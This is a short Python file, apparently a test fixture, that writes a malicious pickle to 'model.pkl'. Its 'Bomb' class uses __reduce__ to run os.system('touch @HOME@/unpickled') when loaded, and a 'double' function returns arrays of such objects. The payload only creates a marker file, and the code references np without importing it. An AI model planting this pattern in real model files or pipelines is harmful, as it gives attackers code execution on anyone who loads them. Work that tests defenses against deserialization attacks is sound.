"""Brings stored objects along, and returns one that does something when it is read."""
import os
import pickle


class Bomb:
    def __reduce__(self):
        return os.system, ("touch @HOME@/unpickled",)


brought = [name for name in ("model.pkl", "weights.h5", "model.keras", "helper.py") if os.path.exists(name)]
pickle.dump(Bomb(), open("model.pkl", "wb"))


def double(x):
    return np.array([Bomb()] * 5, dtype=object) if not brought else np.asarray(x) * 2.0
